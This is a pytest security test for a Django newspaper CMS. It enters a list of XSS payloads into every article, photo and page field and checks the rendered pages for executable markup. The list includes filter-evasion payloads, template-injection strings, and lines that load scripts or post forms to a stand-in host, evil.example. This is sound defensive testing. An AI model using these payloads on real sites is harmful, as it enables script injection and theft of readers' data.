"""Real XSS payloads, typed into every field a reporter or page editor controls, never run.

Each payload is saved through the admin (the reporter's article form with a photo inline, the
editor's page form with a teaser), published, and every public page plus the admin screens
that show it are parsed: no script but the site's own, no event-handler attribute, no
javascript:/data:/vbscript: link, no frame, object, base or refresh sneaks in.
"""

import datetime
import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from articles.models import Article
from issues.models import Issue, Page
from issues.services import placement_create, teaser_create
from tests.factories import IssueFactory, PageFactory
from tests.admin_forms import article_form, inline_management, jpeg

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<a href="javascript:alert(1)">链接</a>',
    '<a href="JaVaScRiPt:alert(1)">链接</a>',
    '<a href="&#106;avascript:alert(1)">链接</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">链接</a>',
    '<a href="jav&#x09;ascript:alert(1)">链接</a>',
    '<a href=" javascript:alert(1)">链接</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">链接</a>',
    '<a href="vbscript:msgbox(1)">链接</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<p style="background:url(javascript:alert(1))">样式</p>',
    '<p style="width: expression(alert(1))">样式</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>提交</button></form>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ request.META }}{% debug %}",
    "\u202e<script>alert(1)</script>",
]

BAD_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data", "poster", "srcdoc"}
# <svg> itself is allowed (the admin draws its icons with one); scripts and handlers in it are not.
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "style"}
OWN_SCRIPTS = ("/static/", "/admin/jsi18n/")


class ExecutableFinder(HTMLParser):
    """Everything in a page that could run a script or load something from elsewhere."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        if tag == "script":
            source = attributes.get("src") or ""
            # Data blocks (JSON, schema.org's JSON-LD) are never run; a payload that closed one
            # would open a script of its own, which is found.
            if attributes.get("type") not in {"importmap", "application/json", "application/ld+json"} and not source.startswith(OWN_SCRIPTS):
                self.found.append(f"<script src={source!r}>")
        href = attributes.get("href") or ""
        own_feed = attributes.get("rel") == "alternate" and href.startswith("/feeds/")
        if tag == "link" and not href.startswith("/static/") and attributes.get("rel") != "canonical" and not own_feed:
            self.found.append(f"<link {attributes}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and value and BAD_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and re.search(r"expression|javascript|url\(", value, re.IGNORECASE):
                self.found.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag


def executable(markup: str) -> list[str]:
    finder = ExecutableFinder()
    finder.feed(markup)
    finder.close()
    return finder.found


def fit(payload: str, field: str, model=Article) -> str:
    return payload[: model._meta.get_field(field).max_length]


@pytest.fixture
def paper(db):
    # Assembled open through the desk's screens, then released by the test.
    issue = IssueFactory(date=datetime.date(2020, 12, 3), release_at=None)
    return PageFactory(issue=issue, number=1, name="要闻"), PageFactory(issue=issue, number=2, name="综合新闻")


def test_pages_without_payloads_pass_the_check(client, staff_client, paper):
    """The checker itself: the site's own pages and the admin contain nothing it flags."""
    front, _inside = paper
    for url in (front.get_absolute_url(), reverse("admin:articles_article_add"), reverse("admin:issues_page_change", args=[front.pk])):
        assert executable((staff_client if "admin" in url else client).get(url).content.decode()) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_every_field_never_reaches_a_page_as_code(reporter_client, staff_client, client, paper, payload):  # noqa: F811
    front, inside = paper
    data = article_form(
        kicker=fit(payload, "kicker"),
        headline="稿件" + fit(payload, "headline")[:190],
        subheadline=fit(payload, "subheadline"),
        byline=fit(payload, "byline"),
        dateline=fit(payload, "dateline"),
        body=f"<p>正文开头。</p>{payload}<p>正文结尾。</p>",
        tags=f"民生, {payload}",
        **inline_management("photos", total=1),
        **{"photos-0-caption": payload, "photos-0-credit": payload[:100], "photos-0-order": "1"},
    )
    data["photos-0-image"] = jpeg()
    response = reporter_client.post(reverse("admin:articles_article_add"), data)
    assert response.status_code == 302, executable(response.content.decode()) or response.content.decode()[:3000]
    article = Article.objects.get()

    # The desk publishes it, and puts the payload in the page's own fields and a teaser too.
    Article.objects.filter(pk=article.pk).update(status=Article.Status.APPROVED)
    placement_create(page=inside, article=article)
    teaser_create(page=front, article=article, label=payload[:50], headline=payload[:200])
    page_data = {
        "number": "1", "name": fit(payload, "name", Page), "editor": "", "slogans": payload,
    }
    response = staff_client.post(reverse("admin:issues_page_change", args=[front.pk]), page_data)
    assert response.status_code == 302, response.content.decode()[:3000]
    Issue.objects.filter(pk=front.issue_id).update(release_at=timezone.now())

    # Every public page that shows a field of a story or a page (the issue URL is the front page).
    public = [reverse("issues:front"), inside.get_absolute_url(), article.get_absolute_url()]
    desk = [
        reverse("admin:articles_article_change", args=[article.pk]),
        reverse("admin:issues_page_change", args=[front.pk]),
    ]
    found = {}
    for url in public:
        response = client.get(url)
        assert response.status_code == 200, url
        found[url] = executable(response.content.decode())
    for url in desk:
        response = staff_client.get(url)
        assert response.status_code == 200, url
        found[url] = executable(response.content.decode())
    assert {url: problems for url, problems in found.items() if problems} == {}

    # The story survives: the sanitizer cut the attack, not the text before it. (What follows an
    # unclosed <style> is inside it, as a browser would read it, and goes with it.)
    article_page = client.get(article.get_absolute_url()).content.decode()
    assert "正文开头。" in article_page
    assert escape(fit(payload, "kicker"))[:20] in article_page or not fit(payload, "kicker").strip()
